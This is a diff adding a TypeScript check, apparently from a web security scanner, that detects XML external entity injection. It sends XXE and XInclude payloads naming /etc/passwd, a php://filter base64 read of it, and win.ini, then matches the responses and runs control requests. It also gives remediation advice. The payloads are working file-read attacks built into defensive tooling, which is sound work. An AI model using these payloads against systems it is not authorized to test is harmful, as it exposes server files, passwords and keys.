@@ -1,0 +1,156 @@
+import { claim, type Experiment, type Step } from '../../model/experiment.ts';
+import { firstMatch } from '../../proof/pattern.ts';
+import { fill, newTrialValues } from '../../proof/template.ts';
+import { type CheckContext, defineCheck, notApplicable } from '../contract.ts';
+import type { OpenedInput } from '../inputs/input-request.ts';
+import { experimentAt, type Looked, lookAtEach } from '../inputs/look-at-each.ts';
+import { inputSteps, sendInput } from '../inputs/open-input.ts';
+import { canaryAt } from './canary.ts';
+import { inputsToProbe } from './probe-inputs.ts';
+import { encodedPasswd, unixFiles, windowsFile } from './traversal-payloads.ts';
+import { documentAction, documentWith, saysXmlError, takesXml, xmlBodies } from './xml-documents.ts';
+
+type Way = {
+  content: string;
+  /** Of the internal subset. */
+  declarations: string;
+  /** The same without what makes an external one of it. */
+  control: { content: string; declarations: string };
+};
+type Read = { input: OpenedInput; way: Way; pattern: string; detail: string; cvss?: string };
+
+const maxInputs = 100;
+
+/** An entity of the document that stands for a file, and the same as a text. */
+const entity = (declared: string): Way => ({
+  content: '&x;',
+  declarations: `<!ENTITY x ${declared}>`,
+  control: { content: '&x;', declarations: `<!ENTITY x ${declared.replace(/^(?:SYSTEM|PUBLIC "[^"]*") /, '')}>` },
+});
+
+/** An element that stands for a file, in documents that have no type. Source: XInclude 1.0. */
+const include = (url: string): Way => {
+  const element = (parse: string) =>
+    `<i:include xmlns:i="http://www.w3.org/${parse}/XInclude" parse="text" href="${url}"/>`;
+  return { content: element('2001'), declarations: '', control: { content: element('1001'), declarations: '' } };
+};
+
+const [passwd] = unixFiles;
+/** The commonest first; some filters know one spelling, and PHP gives what would not be XML in base64. */
+const ways: readonly { way: Way; file: string; pattern: string }[] = [
+  ...(passwd
+    ? [
+        entity(`SYSTEM "file:///${passwd.path}"`),
+        entity(`PUBLIC "‹nonce›" "file:///${passwd.path}"`),
+        entity(`SYSTEM "/${passwd.path}"`),
+        include(`file:///${passwd.path}`),
+      ].map((way) => ({ way, file: `/${passwd.path}`, pattern: passwd.pattern }))
+    : []),
+  {
+    way: entity('SYSTEM "php://filter/convert.base64-encode/resource=/etc/passwd"'),
+    file: '/etc/passwd',
+    pattern: encodedPasswd.pattern,
+  },
+  {
+    way: entity(`SYSTEM "file:///c:/${windowsFile.path}"`),
+    file: `C:/${windowsFile.path}`,
+    pattern: windowsFile.pattern,
+  },
+];
+
+/** A parser says that it could not open the file of this name. */
+const missing = entity('SYSTEM "file:///‹nonce›/‹nonce2›"');
+const failure =
+  '(?:failed to load|could not load|cannot (?:load|open|find)|could not (?:be found|find)|no such file|not found|unable to open|FileNotFound|failed to open|I/O (?:warning|error))';
+const namedFailure = `(?is:${failure}.{0,200}‹nonce›/‹nonce2›|‹nonce›/‹nonce2›.{0,200}${failure})`;
+
+/** A parser of XML opens what a document names. Source: CWE-611, WSTG-INPV-07. */
+export const xxe = defineCheck<Looked<Read>>({
+  id: 'injection.xxe',
+  title: 'XML external entity injection (XXE)',
+  cwe: 611,
+  owasp: 'A02:2025',
+  cvss: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N',
+  depth: 'standard',
+  risk: 'safe',
+
+  async detect(context) {
+    const inputs = [...xmlBodies(context.surface), ...inputsToProbe(context.surface)];
+    if (inputs.length === 0) return notApplicable('No page takes a value that may be changed.');
+    return lookAtEach(context, inputs, maxInputs, (input) => look(context, input));
+  },
+
+  confirm: (_context, candidate) => experimentAt(candidate, experimentFor),
+
+  explain: {
+    description:
+      'The value is parsed as XML by a parser that resolves external entities, or XInclude: the content of a file that the document names comes back in the answer.',
+    impact:
+      'Everybody can read files of the server: source code, settings with passwords and keys. Most parsers open addresses as well, so that the server can be made to ask internal services.',
+    sends:
+      'Sends XML documents that name `/etc/passwd`, `win.ini`, or a file that nobody has, in inputs that take XML by their name, value or error messages, and in requests whose JSON may be XML as well.',
+    proves:
+      'The answer has the form of that system file; a document whose entity is a text does not. An attacker reads files of the server. Where only an error names the missing file, that files are opened is shown, and not that they can be read.',
+    remedy:
+      'Turn off document types and external entities: `resolve_entities=False, no_network=True` or `defusedxml` (Python), `setFeature("http://apache.org/xml/features/disallow-doctype-decl", true)` (Java), no `LIBXML_NOENT` and `LIBXML_DTDLOAD` (PHP), `DtdProcessing.Prohibit` (.NET), no `noent` (libxmljs). Turn off XInclude. Accept JSON only where XML is not needed.',
+    references: [
+      'CWE-611: https://cwe.mitre.org/data/definitions/611.html',
+      'WSTG-INPV-07: https://owasp.org/www-project-web-security-testing-guide/stable/4-Web_Application_Security_Testing/07-Input_Validation_Testing/07-Testing_for_XML_Injection',
+      'OWASP XXE Prevention Cheat Sheet: https://cheatsheetseries.owasp.org/cheatsheets/XML_External_Entity_Prevention_Cheat_Sheet.html',
+    ],
+  },
+});
+
+const isBody = (input: OpenedInput): boolean => input.contentType === 'application/xml';
+
+async function look(context: CheckContext, input: OpenedInput): Promise<Read | undefined> {
+  if (!isBody(input) && !takesXml(input) && !saysXmlError((await canaryAt(context, input)).exchange.text))
+    return undefined;
+  const values = newTrialValues(context.nonce);
+  const ask = async ({ content, declarations }: Way['control']) => {
+    const document = documentWith(input.sample, content, declarations);
+    return (await sendInput(context, input, documentAction(input, document), values)).text;
+  };
+  // Entities that are texts show whether a parser is there, and what of the document comes back.
+  const base = await ask({ content: '&x;', declarations: '<!ENTITY x "‹nonce3›">' });
+  // An element more would make another request of a body.
+  const tried = ways.filter(({ way }) => way.declarations !== '' || !isBody(input));
+  for (const { way, file, pattern } of tried)
+    if (!firstMatch(pattern, base) && firstMatch(pattern, await ask(way)))
+      return { input, way, pattern, detail: `The file ${file} was read.` };
+  if (!firstMatch(fill(namedFailure, values), await ask(missing)) || firstMatch(`(?i)${failure}`, await ask(existing)))
+    return undefined;
+  return {
+    input,
+    way: missing,
+    pattern: namedFailure,
+    detail: 'An error names a missing file that the document names; that files can be read was not shown.',
+    cvss: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:L/I:N/A:N',
+  };
+}
+
+/** What every Unix has is opened without an error. */
+const existing = entity('SYSTEM "file:///etc/passwd"');
+
+function experimentFor({ input, way, pattern }: Read): Experiment {
+  const isFailure = way === missing;
+  const shown = claim(
+    'body',
+    'matches',
+    pattern,
+    isFailure ? 'The error names the file.' : 'The answer has the form of the file.',
+  );
+  const step = ({ content, declarations }: Way['control'], note: string, expect: Step['expect']): Step[] =>
+    inputSteps(input, documentAction(input, documentWith(input.sample, content, declarations)), { note, expect });
+  return {
+    steps: [
+      ...(isFailure
+        ? step(existing, 'With a file that is there the parser says nothing of the kind.', [
+            claim('body', 'not-matches', `(?i)${failure}`),
+          ])
+        : []),
+      ...step(way, 'The document names a file, and the parser opens it.', [shown]),
+    ],
+    control: step(way.control, 'The same without what makes an external reference of it opens nothing.', [shown]),
+  };
+}
